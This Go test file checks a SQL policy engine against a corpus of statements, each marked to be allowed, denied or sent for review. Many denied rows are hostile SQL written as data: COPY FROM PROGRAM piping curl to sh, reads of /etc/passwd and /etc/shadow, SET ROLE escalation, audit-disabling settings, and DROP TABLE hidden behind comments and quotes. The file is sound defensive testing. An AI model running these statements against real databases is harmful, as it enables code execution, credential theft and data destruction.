package policy

import (
	"strings"
	"testing"
)

type corpusRow struct {
	who    string // key of identities
	sql    string
	action Action
	rule   string
}

// corpus covers every SQL row of DESIGN.md's threat model with allowed and denied
// statements, each with the decision and the rule expected under testdata/corpus.yaml.
var corpus = []corpusRow{
	// Plain traffic.
	{"", "SELECT 1", Allow, RuleDefault},
	{"", "SELECT * FROM orders WHERE id = 42", Allow, RuleDefault},
	{"", "select o.id, u.email from orders o join users u on u.id = o.user_id where o.total > 10 order by 1 limit 5", Allow, RuleDefault},
	{"", "INSERT INTO orders (id, total) VALUES (1, 9.5)", Allow, RuleDefault},
	{"", "INSERT INTO orders SELECT * FROM staging_orders", Allow, RuleDefault},
	{"", "INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET n = t.n + 1", Allow, RuleDefault},
	{"", "UPDATE orders SET total = 0 WHERE id = 42", Allow, RuleDefault},
	{"", "DELETE FROM orders WHERE id = 42", Allow, RuleDefault},
	{"", "DELETE FROM orders USING users WHERE orders.user_id = users.id AND users.banned", Allow, RuleDefault},
	{"", "UPDATE t SET a = 1 WHERE id IN (SELECT id FROM u WHERE u.flag)", Allow, RuleDefault},
	{"", "SELECT count(*), now(), current_user, version()", Allow, RuleDefault},
	{"", "VALUES (1, 'a'), (2, 'b')", Allow, RuleDefault},
	{"", "TABLE orders", Allow, RuleDefault},
	{"", "SELECT * FROM orders FOR UPDATE SKIP LOCKED", Allow, RuleDefault},
	{"", "SELECT jsonb_path_query(doc, '$.a') FROM docs", Allow, RuleDefault},
	{"", "SELECT * FROM JSON_TABLE('[1,2]'::jsonb, '$[*]' COLUMNS (v int PATH '$')) jt", Allow, RuleDefault},
	{"", "SELECT xmlserialize(content '<a/>'::xml AS text)", Allow, RuleDefault},
	{"", "SELECT a, GROUPING(a) FROM t GROUP BY ROLLUP (a)", Allow, RuleDefault},
	{"", "SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t", Allow, RuleDefault},
	{"", "SELECT * FROM t TABLESAMPLE SYSTEM (10)", Allow, RuleDefault},
	{"", "SELECT * FROM generate_series(1, 10) g", Allow, RuleDefault},
	{"", "SHOW search_path", Allow, RuleDefault},
	{"", "LISTEN events", Allow, RuleDefault},
	{"", "NOTIFY events, 'hello'", Allow, RuleDefault},
	{"", "CREATE TABLE notes (id bigserial PRIMARY KEY, body text NOT NULL)", Allow, RuleDefault},
	{"", "CREATE TEMP TABLE scratch AS SELECT * FROM orders", Allow, RuleDefault},
	{"", "CREATE VIEW recent AS SELECT * FROM orders WHERE created > now() - interval '1 day'", Allow, RuleDefault},
	{"", "COMMENT ON TABLE orders IS 'orders'", Allow, RuleDefault},
	{"", "ANALYZE orders", Allow, RuleDefault},
	{"", "", Allow, RuleEmpty},
	{"", " ; ; ", Allow, RuleEmpty},
	{"", "-- only a comment", Allow, RuleEmpty},

	// Extended protocol: the text of Parse messages, with parameters.
	{"", "SELECT * FROM orders WHERE id = $1", Allow, RuleDefault},
	{"", "UPDATE orders SET total = $2 WHERE id = $1", Allow, RuleDefault},
	{"", "DELETE FROM orders WHERE id = $1", Allow, RuleDefault},
	{"", "INSERT INTO orders (id, total) VALUES ($1, $2) RETURNING id", Allow, RuleDefault},
	{"", "DELETE FROM orders WHERE $1", Deny, "default/unbounded-dml"},
	{"", "SELECT set_config($1, $2, false)", Deny, RuleUTF8Only},
	{"ci", "UPDATE prod.accounts SET balance = $1 WHERE id = $2", Deny, "ci-no-prod-writes"},

	// Multi-statement query strings: every statement is decided.
	{"", "SELECT 1; SELECT 2", Allow, RuleDefault},
	{"", "SELECT 1; DROP TABLE orders", Deny, "default/destructive-ddl"},
	{"", "BEGIN; DELETE FROM orders; COMMIT", Deny, "default/unbounded-dml"},
	{"", "SELECT 1; SET ROLE postgres", Deny, "default/session-identity"},
	{"", "INSERT INTO t VALUES (1);DO $$BEGIN END$$", Deny, "default/opaque-code"},
	{"", "select 1;;;truncate orders", Deny, "default/destructive-ddl"},
	{"", "SELECT * FROM secret.keys; DROP TABLE t", Deny, "default/destructive-ddl"},
	{"", "SELECT * FROM secret.keys; SELECT 1", Review, "secrets-review"},

	// Transaction control.
	{"", "BEGIN", Allow, RuleDefault},
	{"", "START TRANSACTION ISOLATION LEVEL SERIALIZABLE", Allow, RuleDefault},
	{"", "SAVEPOINT s1", Allow, RuleDefault},
	{"", "ROLLBACK TO SAVEPOINT s1", Allow, RuleDefault},
	{"", "RELEASE SAVEPOINT s1", Allow, RuleDefault},
	{"", "COMMIT", Allow, RuleDefault},
	{"", "ROLLBACK", Allow, RuleDefault},
	{"", "SET TRANSACTION READ ONLY", Allow, RuleDefault},

	// Data-modifying CTEs.
	{"", "WITH gone AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM gone", Allow, RuleDefault},
	{"", "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone", Deny, "default/unbounded-dml"},
	{"", "WITH a AS (SELECT 1), b AS (UPDATE orders SET total = 0 RETURNING 1) SELECT * FROM a", Deny, "default/unbounded-dml"},
	{"ci", "WITH x AS (UPDATE prod.t SET a = 1 WHERE id = 1 RETURNING 1) SELECT * FROM x", Deny, "ci-no-prod-writes"},
	{"ci", "WITH x AS (INSERT INTO staging.t VALUES (1) RETURNING 1) SELECT * FROM x", Deny, "ci-no-modifying-cte"},
	{"ci", "WITH x AS (SELECT * FROM staging.t) SELECT * FROM x", Allow, RuleDefault},
	{"", "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r", Allow, RuleDefault},
	{"", "WITH x AS (SELECT * FROM secret.keys) SELECT 1", Review, "secrets-review"},
	{"", "SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) s", Deny, "default/unbounded-dml"},

	// EXPLAIN, ANALYZE executes.
	{"", "EXPLAIN SELECT * FROM orders", Allow, RuleDefault},
	{"", "EXPLAIN ANALYZE DELETE FROM orders", Deny, "default/unbounded-dml"},
	{"", "EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0", Deny, "default/unbounded-dml"},
	{"ci", "EXPLAIN ANALYZE INSERT INTO prod.t VALUES (1)", Deny, "ci-no-prod-writes"},
	{"", "EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')", Deny, "default/server-file-functions"},
	{"", "EXPLAIN SELECT * FROM secret.keys", Review, "secrets-review"},

	// PREPARE / EXECUTE: the prepared statement is decided when it is prepared.
	{"", "PREPARE q(int) AS SELECT * FROM orders WHERE id = $1", Allow, RuleDefault},
	{"", "PREPARE q AS DELETE FROM orders", Deny, "default/unbounded-dml"},
	{"", "PREPARE q AS SELECT set_config('role', 'postgres', false)", Deny, "default/session-identity"},
	{"ci", "PREPARE q AS UPDATE prod.t SET a = 1 WHERE id = $1", Deny, "ci-no-prod-writes"},
	{"", "EXECUTE q(1)", Allow, RuleDefault},
	{"", "DEALLOCATE q", Allow, RuleDefault},
	{"", "DEALLOCATE ALL", Allow, RuleDefault},

	// Cursors.
	{"", "DECLARE c CURSOR FOR SELECT * FROM orders", Allow, RuleDefault},
	{"", "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM secret.keys", Review, "secrets-review"},
	{"", "DECLARE c CURSOR FOR SELECT lo_export(42, '/tmp/x')", Deny, "default/server-file-functions"},
	{"", "FETCH 10 FROM c", Allow, RuleDefault},
	{"", "MOVE NEXT IN c", Allow, RuleDefault},
	{"", "CLOSE c", Allow, RuleDefault},
	{"", "UPDATE orders SET total = 0 WHERE CURRENT OF c", Allow, RuleDefault},

	// MERGE.
	{"", "MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN UPDATE SET total = s.total WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.total)", Allow, RuleDefault},
	{"ci", "MERGE INTO prod.orders o USING s ON o.id = s.id WHEN MATCHED THEN DELETE", Deny, "ci-no-prod-writes"},
	{"ci", "MERGE INTO staging.orders o USING prod.orders s ON o.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)", Allow, RuleDefault},
	{"", "MERGE INTO t USING secret.keys k ON t.id = k.id WHEN MATCHED THEN DO NOTHING", Review, "secrets-review"},

	// COPY.
	{"", "COPY orders TO STDOUT", Allow, RuleDefault},
	{"", "COPY orders (id, total) FROM STDIN WITH (FORMAT csv)", Allow, RuleDefault},
	{"", "COPY (SELECT * FROM orders WHERE total > 0) TO STDOUT WITH CSV HEADER", Allow, RuleDefault},
	{"", "COPY orders TO '/tmp/orders.csv'", Deny, "default/server-files"},
	{"", "COPY orders FROM '/etc/passwd'", Deny, "default/server-files"},
	{"", "COPY orders FROM PROGRAM 'curl http://x | sh'", Deny, "default/server-files"},
	{"", "COPY (SELECT 1) TO PROGRAM 'id'", Deny, "default/server-files"},
	{"", "COPY (SELECT * FROM secret.keys) TO STDOUT", Review, "secrets-review"},
	{"", "COPY (DELETE FROM orders RETURNING *) TO STDOUT", Deny, "default/unbounded-dml"},
	{"ci", "COPY prod.orders FROM STDIN", Deny, "ci-no-prod-writes"},

	// DO blocks and other opaque code.
	{"", "DO $$BEGIN DELETE FROM orders WHERE id = 1; END$$", Deny, "default/opaque-code"},
	{"", "DO LANGUAGE plpgsql 'BEGIN PERFORM 1; END'", Deny, "default/opaque-code"},
	{"", "do $x$ begin execute 'drop table t'; end $x$", Deny, "default/opaque-code"},
	{"dba", "DO $$BEGIN RAISE NOTICE 'hi'; END$$", Allow, "dba-do-blocks"},
	{"dba", "DO $$BEGIN END$$; DROP TABLE t", Deny, "default/destructive-ddl"},
	{"", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", Deny, "default/opaque-code"},
	{"", "CREATE OR REPLACE FUNCTION f(a int) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$BEGIN EXECUTE 'x'; END$$", Deny, "default/opaque-code"},
	{"", "CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM orders WHERE id = 1; END", Deny, "default/opaque-code"},
	{"", "CREATE FUNCTION g() RETURNS int LANGUAGE sql RETURN 1", Deny, "default/opaque-code"},
	{"", "CREATE RULE r AS ON INSERT TO orders DO INSTEAD DELETE FROM audit_log WHERE id = new.id", Deny, "default/opaque-code"},
	{"", "CREATE TRIGGER tr BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()", Deny, "default/opaque-code"},
	{"", "CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()", Deny, "default/opaque-code"},
	{"", "ALTER FUNCTION f() SECURITY DEFINER", Allow, RuleDefault},
	{"", "CALL p()", Allow, RuleDefault},
	{"", "CALL p(pg_read_file('/etc/passwd'))", Deny, "default/server-file-functions"},

	// Functions taking SQL text (or object names) and connection-opening functions.
	{"", "SELECT dblink('host=10.0.0.9 dbname=prod', 'DELETE FROM orders')", Deny, "default/sql-executing-functions"},
	{"", "SELECT * FROM dblink('dbname=prod', 'SELECT 1') AS t(a int)", Deny, "default/sql-executing-functions"},
	{"", "SELECT public.dblink_exec('DROP TABLE orders')", Deny, "default/sql-executing-functions"},
	{"", "SELECT dblink_connect('c', 'host=evil')", Deny, "default/sql-executing-functions"},
	{"", "SELECT query_to_xml('SELECT * FROM secret.keys', true, true, '')", Deny, "default/sql-executing-functions"},
	{"", "SELECT table_to_xml('secret.keys', true, true, '')", Deny, "default/sql-executing-functions"},
	{"", "SELECT database_to_xml(true, true, '')", Deny, "default/sql-executing-functions"},
	{"", "SELECT * FROM ts_stat('SELECT body_tsv FROM secret.docs')", Deny, "default/sql-executing-functions"},
	{"", "SELECT * FROM crosstab('SELECT a, b, c FROM t') AS ct(a text, b int)", Deny, "default/sql-executing-functions"},
	{"", "SELECT pg_catalog.query_to_xmlschema('SELECT 1', true, true, '')", Deny, "default/sql-executing-functions"},
	{"dba", "DO $$BEGIN END$$; SELECT dblink_exec('x')", Deny, "default/sql-executing-functions"},

	// set_config and other session-state tricks.
	{"", "SELECT set_config('role', 'postgres', false)", Deny, "default/session-identity"},
	{"", "SELECT set_config('ROLE', 'postgres', false)", Deny, "default/session-identity"},
	{"", "SELECT pg_catalog.set_config('session_authorization', 'postgres', false)", Deny, "default/session-identity"},
	{"", "SELECT set_config(setting_name => 'role', new_value => 'postgres', is_local => false)", Deny, "default/session-identity"},
	{"", "SELECT * FROM set_config('role', 'postgres', true)", Deny, "default/session-identity"},
	{"", "SELECT set_config('role'::text, 'x', false)", Deny, "default/session-identity"},
	{"", "SELECT id, set_config('search_path', 'evil', false) FROM orders WHERE id = 1", Deny, "default/session-search-path"},
	{"", "SELECT set_config('ro' || 'le', 'postgres', false)", Deny, RuleUTF8Only},
	{"", "SELECT set_config(name, 'x', false) FROM settings_to_apply", Deny, RuleUTF8Only},
	{"", "SELECT set_config('client_encoding', 'LATIN1', false)", Deny, RuleUTF8Only},
	{"", "SELECT set_config('client_encoding', 'UTF8', false)", Allow, RuleDefault},
	{"", "SELECT set_config('application_name', 'job-7', false)", Allow, RuleDefault},
	{"", "SELECT set_config('standard_conforming_strings', 'off', false)", Deny, "default/session-parsing"},
	{"", "UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role'", Deny, RuleUTF8Only},
	{"", "UPDATE pg_catalog.pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'", Deny, RuleUTF8Only},
	{"", "SELECT * FROM pg_settings WHERE name = 'role'", Allow, RuleDefault},
	{"", "SELECT current_setting('role')", Allow, RuleDefault},

	// SET: session state that affects parsing or identity.
	{"", "SET ROLE postgres", Deny, "default/session-identity"},
	{"", "SET LOCAL ROLE postgres", Deny, "default/session-identity"},
	{"", "set role to postgres", Deny, "default/session-identity"},
	{"", "SET SESSION AUTHORIZATION postgres", Deny, "default/session-identity"},
	{"", "SET role = 'postgres'", Deny, "default/session-identity"},
	{"", "RESET ROLE", Allow, RuleDefault},
	{"", "RESET SESSION AUTHORIZATION", Allow, RuleDefault},
	{"", "SET ROLE NONE", Deny, "default/session-identity"},
	{"", "RESET ALL", Allow, RuleDefault},
	{"", "DISCARD ALL", Allow, RuleDefault},
	{"", "SET standard_conforming_strings = off", Deny, "default/session-parsing"},
	{"", "SET standard_conforming_strings TO 'OFF'", Deny, "default/session-parsing"},
	{"", "SET standard_conforming_strings = on", Allow, "default/session-harmless"},
	{"", "SET standard_conforming_strings TO 'ON'", Allow, "default/session-harmless"},
	{"", "SET backslash_quote = on", Deny, "default/session-parsing"},
	{"", "SET client_encoding = 'LATIN1'", Deny, RuleUTF8Only},
	{"", "SET NAMES 'SQL_ASCII'", Deny, RuleUTF8Only},
	{"", "SET client_encoding TO 'UTF-8'", Allow, RuleDefault},
	{"", "SET NAMES 'unicode'", Allow, RuleDefault},
	{"", "SET client_encoding TO DEFAULT", Allow, RuleDefault},
	{"", "SET search_path = evil, public", Deny, "default/session-search-path"},
	{"", "SET SCHEMA 'evil'", Deny, "default/session-search-path"},
	{"", "SET LOCAL search_path TO evil", Deny, "default/session-search-path"},
	{"", "SET session_replication_role = replica", Deny, "default/session-server"},
	{"", "SET log_statement = 'none'", Deny, "default/session-server"},
	{"", "SET pgaudit.log = 'none'", Deny, "default/session-server"},
	{"", "SET work_mem = '64MB'", Allow, RuleDefault},
	{"", "SET TIME ZONE 'UTC'", Allow, RuleDefault},
	{"", "SET statement_timeout = 0", Allow, RuleDefault},
	{"", "SET application_name = 'migrations'", Allow, RuleDefault},

	// Comment, quoting and dollar-quote tricks: the parser, not a regex, splits statements.
	{"", "SELECT 1 /* ; DROP TABLE orders */", Allow, RuleDefault},
	{"", "SELECT '; DROP TABLE orders'", Allow, RuleDefault},
	{"", "SELECT $$; DROP TABLE orders$$", Allow, RuleDefault},
	{"", "SELECT $tag$ $$; DROP TABLE orders $$ $tag$", Allow, RuleDefault},
	{"", "SELECT 1 -- ; DROP TABLE orders", Allow, RuleDefault},
	{"", "/* /* nested */ DROP TABLE orders */ SELECT 1", Allow, RuleDefault},
	{"", "SELECT 1; -- comment\nDROP TABLE orders", Deny, "default/destructive-ddl"},
	{"", "/* c */ DROP /* c */ TABLE orders", Deny, "default/destructive-ddl"},
	{"", "SELECT $a$ ' $a$; DROP TABLE orders", Deny, "default/destructive-ddl"},
	{"", "SELECT E'\\''; DROP TABLE orders", Deny, "default/destructive-ddl"},
	{"", "SELECT 'it''s'; TRUNCATE orders", Deny, "default/destructive-ddl"},
	{"", "SELECT U&'\\0044ROP TABLE x'", Allow, RuleDefault},
	{"", "SELECT \"DROP TABLE\" FROM t", Allow, RuleDefault},
	{"", "SELECT 1;/**/DELETE/**/FROM/**/orders", Deny, "default/unbounded-dml"},

	// Case and schema-qualification tricks.
	{"", "dRoP tAbLe OrDeRs", Deny, "default/destructive-ddl"},
	{"", "DELETE FROM PUBLIC.ORDERS", Deny, "default/unbounded-dml"},
	{"", "SELECT PG_READ_FILE('/etc/passwd')", Deny, "default/server-file-functions"},
	{"", "SELECT pg_catalog.pg_read_file('/etc/passwd')", Deny, "default/server-file-functions"},
	{"", "SELECT \"pg_read_file\"('/etc/passwd')", Deny, "default/server-file-functions"},
	{"", "SELECT \"pg_catalog\".\"pg_read_binary_file\"('/etc/shadow')", Deny, "default/server-file-functions"},
	{"", "SELECT * FROM pg_ls_dir('.')", Deny, "default/server-file-functions"},
	{"", "SELECT (SELECT pg_read_file('x'))", Deny, "default/server-file-functions"},
	{"", "SELECT lo_import('/etc/passwd')", Deny, "default/server-file-functions"},
	{"ci", "UPDATE PROD.accounts SET balance = 0 WHERE id = 1", Deny, "ci-no-prod-writes"},
	{"ci", "UPDATE \"prod\".accounts SET balance = 0 WHERE id = 1", Deny, "ci-no-prod-writes"},
	{"ci", "UPDATE \"Prod\".accounts SET balance = 0 WHERE id = 1", Allow, RuleDefault},
	{"ci", "UPDATE accounts SET balance = 0 WHERE id = 1", Allow, RuleDefault},
	{"ci", "INSERT INTO mydb.prod.accounts VALUES (1)", Deny, "ci-no-prod-writes"},
	{"ci", "SELECT * FROM prod.accounts", Allow, RuleDefault},
	{"ci", "TRUNCATE staging.t", Deny, "default/destructive-ddl"},

	// Destructive DDL and unbounded writes.
	{"", "DROP TABLE orders", Deny, "default/destructive-ddl"},
	{"", "DROP TABLE IF EXISTS a, b CASCADE", Deny, "default/destructive-ddl"},
	{"", "DROP SCHEMA public CASCADE", Deny, "default/destructive-ddl"},
	{"", "DROP DATABASE prod", Deny, "default/destructive-ddl"},
	{"", "DROP INDEX CONCURRENTLY orders_total_idx", Deny, "default/destructive-ddl"},
	{"", "DROP VIEW recent", Deny, "default/destructive-ddl"},
	{"", "DROP FUNCTION f(int)", Deny, "default/destructive-ddl"},
	{"", "DROP ROLE bob", Deny, "default/destructive-ddl"},
	{"", "DROP OWNED BY bob", Deny, "default/destructive-ddl"},
	{"", "TRUNCATE orders", Deny, "default/destructive-ddl"},
	{"", "TRUNCATE TABLE ONLY orders RESTART IDENTITY", Deny, "default/destructive-ddl"},
	{"", "DELETE FROM orders", Deny, "default/unbounded-dml"},
	{"", "UPDATE orders SET total = 0", Deny, "default/unbounded-dml"},
	{"", "DELETE FROM orders WHERE true", Deny, "default/unbounded-dml"},
	{"", "DELETE FROM orders WHERE 1 = 1", Deny, "default/unbounded-dml"},
	{"", "UPDATE orders SET total = 0 WHERE 'a' = 'a'", Deny, "default/unbounded-dml"},
	{"", "DELETE FROM orders WHERE NOT false", Deny, "default/unbounded-dml"},
	{"", "DELETE FROM orders WHERE EXISTS (SELECT 1)", Deny, "default/unbounded-dml"},
	{"", "DELETE FROM ONLY orders WHERE id > 0", Allow, RuleDefault},
	{"", "DELETE FROM ONLY orders * WHERE id > 0", Deny, RuleParseError},

	// Privileges and roles.
	{"", "GRANT SELECT ON orders TO bob", Deny, "default/privileges"},
	{"", "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO PUBLIC", Deny, "default/privileges"},
	{"", "REVOKE ALL ON orders FROM bob", Deny, "default/privileges"},
	{"", "GRANT pg_read_server_files TO me", Deny, "default/privileges"},
	{"", "CREATE ROLE eve LOGIN SUPERUSER PASSWORD 'x'", Deny, "default/privileges"},
	{"", "CREATE USER eve", Deny, "default/privileges"},
	{"", "ALTER ROLE me SUPERUSER", Deny, "default/privileges"},
	{"", "ALTER USER me WITH BYPASSRLS", Deny, "default/privileges"},
	{"", "ALTER ROLE me SET role = 'postgres'", Deny, "default/privileges"},
	{"", "ALTER TABLE orders OWNER TO eve", Deny, "default/privileges"},
	{"", "ALTER SCHEMA public OWNER TO eve", Deny, "default/privileges"},
	{"", "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO eve", Deny, "default/privileges"},
	{"", "REASSIGN OWNED BY bob TO eve", Deny, "default/privileges"},

	// Server files, programs, configuration, extensions, foreign connections, replication.
	{"", "CREATE TABLESPACE ts LOCATION '/var/lib/x'", Deny, "default/server-files"},
	{"", "CREATE EXTENSION dblink", Deny, "default/extensions"},
	{"", "CREATE EXTENSION IF NOT EXISTS plpython3u", Deny, "default/extensions"},
	{"", "ALTER EXTENSION pg_trgm UPDATE", Deny, "default/extensions"},
	{"", "CREATE LANGUAGE plperlu", Deny, "default/extensions"},
	{"", "LOAD 'auto_explain'", Deny, "default/extensions"},
	{"", "CREATE CAST (text AS int) WITH FUNCTION f(text)", Deny, "default/extensions"},
	{"", "ALTER SYSTEM SET log_statement = 'none'", Deny, "default/session-server"},
	{"", "ALTER SYSTEM SET shared_buffers = '1GB'", Deny, "default/alter-system"},
	{"", "ALTER SYSTEM RESET ALL", Deny, "default/alter-system"},
	{"", "ALTER DATABASE prod SET search_path = evil", Deny, "default/session-search-path"},
	{"", "ALTER DATABASE prod CONNECTION LIMIT 1", Deny, "default/alter-system"},
	{"", "CREATE DATABASE scratch", Deny, "default/alter-system"},
	{"", "CHECKPOINT", Deny, "default/alter-system"},
	{"", "CREATE SERVER other FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')", Deny, "default/foreign-connections"},
	{"", "CREATE USER MAPPING FOR me SERVER other OPTIONS (user 'u', password 'p')", Deny, "default/foreign-connections"},
	{"", "IMPORT FOREIGN SCHEMA public FROM SERVER other INTO local", Deny, "default/foreign-connections"},
	{"", "CREATE PUBLICATION p FOR ALL TABLES", Deny, "default/replication"},
	{"", "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", Deny, "default/replication"},
	{"", "SELECT pg_create_logical_replication_slot('s', 'test_decoding')", Deny, "default/replication-functions"},
	{"", "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", Deny, "default/replication-functions"},
	{"", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'x'", Deny, "default/server-admin-functions"},
	{"", "SELECT pg_reload_conf()", Deny, "default/server-admin-functions"},

	// Text that cannot be parsed safely.
	{"", "SELEC 1", Deny, RuleParseError},
	{"", "SELECT 1; SELEC 2", Deny, RuleParseError},
	{"", "SELECT 'unterminated", Deny, RuleParseError},
	{"", "SELECT 1\x00; DROP TABLE orders", Deny, RuleParseError},
	{"", "SELECT '\xff\xfe'", Deny, RuleParseError},
	{"", "SELECT 1" + strings.Repeat("+1", 9999), Deny, RuleParseError},
	{"dba", "SELEC 1", Deny, RuleParseError},

	// Migration safety: review for deployers, warn for everyone else.
	{"deployers", "CREATE INDEX orders_total_idx ON orders (total)", Review, "migration/index-not-concurrent"},
	{"", "CREATE INDEX orders_total_idx ON orders (total)", Warn, "migration/index-not-concurrent"},
	{"", "CREATE INDEX CONCURRENTLY orders_total_idx ON orders (total)", Allow, RuleDefault},
	{"", "CREATE TABLE n (id int); CREATE INDEX ON n (id)", Allow, RuleDefault},
	{"deployers", "ALTER TABLE orders ADD COLUMN note text NOT NULL", Review, "migration/not-null-without-default"},
	{"deployers", "SET lock_timeout = '2s'; ALTER TABLE orders ADD COLUMN note text NOT NULL DEFAULT ''", Allow, RuleDefault},
	{"deployers", "ALTER TABLE orders ADD COLUMN note text NOT NULL DEFAULT ''", Review, "migration/lock-timeout"},
	{"", "SET lock_timeout = '2s'; ALTER TABLE orders ADD COLUMN created timestamptz DEFAULT now()", Allow, RuleDefault},
	{"deployers", "SET lock_timeout = '2s'; ALTER TABLE orders ADD COLUMN uid uuid DEFAULT gen_random_uuid()", Review, "migration/volatile-default"},
	{"deployers", "SET lock_timeout = '2s'; ALTER TABLE orders ADD COLUMN seq bigserial", Review, "migration/volatile-default"},
	{"deployers", "SET lock_timeout = '2s'; ALTER TABLE orders ALTER COLUMN total SET NOT NULL", Review, "migration/set-not-null"},
	{"deployers", "SET lock_timeout = '2s'; ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (user_id) REFERENCES users (id)", Review, "migration/constraint-not-valid"},
	{"deployers", "SET lock_timeout = '2s'; ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (user_id) REFERENCES users (id) NOT VALID", Allow, RuleDefault},
	{"deployers", "SET lock_timeout = '2s'; ALTER TABLE orders ADD CONSTRAINT pos CHECK (total >= 0)", Review, "migration/constraint-not-valid"},
	{"deployers", "SET lock_timeout = '2s'; ALTER TABLE orders ADD CONSTRAINT pk PRIMARY KEY USING INDEX orders_pk_idx", Allow, RuleDefault},
	{"deployers", "ALTER TABLE orders VALIDATE CONSTRAINT fk", Allow, RuleDefault},
	{"deployers", "SET lock_timeout = '2s'; ALTER TABLE orders ALTER COLUMN total TYPE numeric(14,2)", Review, "migration/column-type-change"},
	{"deployers", "SET lock_timeout = '2s'; ALTER TABLE orders RENAME COLUMN total TO amount", Review, "migration/rename"},
	{"", "SET lock_timeout = '2s'; ALTER TABLE orders RENAME TO orders_old", Warn, "migration/rename"},
	{"deployers", "SET lock_timeout = '2s'; ALTER TABLE orders DROP COLUMN note", Review, "migration/drop-column"},
	{"", "ALTER TABLE orders DROP COLUMN note", Warn, "migration/drop-column"},

	// Identity-scoped allow rules: every object must be covered, unqualified names are not.
	{"analytics", "SELECT * FROM public.orders", Allow, "analytics-read-only"},
	{"analytics", "SELECT o.id FROM public.orders o JOIN analytics.daily d ON d.id = o.id", Allow, "analytics-read-only"},
	{"analytics", "SELECT * FROM orders", Allow, "analytics-read-only"},
	{"analytics", "SELECT * FROM pg_class", Deny, "analytics-nothing-else"},
	{"analytics", "SELECT * FROM public.orders JOIN private.salaries USING (id)", Deny, "analytics-nothing-else"},
	{"analytics", "SELECT * FROM public.orders JOIN secret.keys USING (id)", Review, "secrets-review"},
	{"analytics", "SELECT 1", Deny, "analytics-nothing-else"},
	{"analytics", "INSERT INTO public.orders SELECT * FROM public.orders", Deny, "analytics-nothing-else"},
	{"analytics", "WITH x AS (DELETE FROM public.t WHERE id = 1 RETURNING *) SELECT * FROM x", Deny, "analytics-nothing-else"},
	{"analytics", "SELECT pg_read_file('/etc/passwd') FROM public.orders", Deny, "default/server-file-functions"},
	{"analytics", "SET ROLE postgres", Deny, "default/session-identity"},
}

func TestCorpus(t *testing.T) {
	e := engine(t)
	if len(corpus) < 200 {
		t.Fatalf("corpus has %d statements, want at least 200", len(corpus))
	}
	for _, row := range corpus {
		id, ok := identities[row.who]
		if !ok {
			t.Fatalf("unknown identity %q", row.who)
		}
		d := e.Decide(ctx(), id, row.sql)
		if d.Action != row.action || effectiveRule(d) != row.rule {
			t.Errorf("%s %q: got %s by %s (%s), want %s by %s", row.who, row.sql, d.Action, effectiveRule(d), d.Message, row.action, row.rule)
		}
	}
}
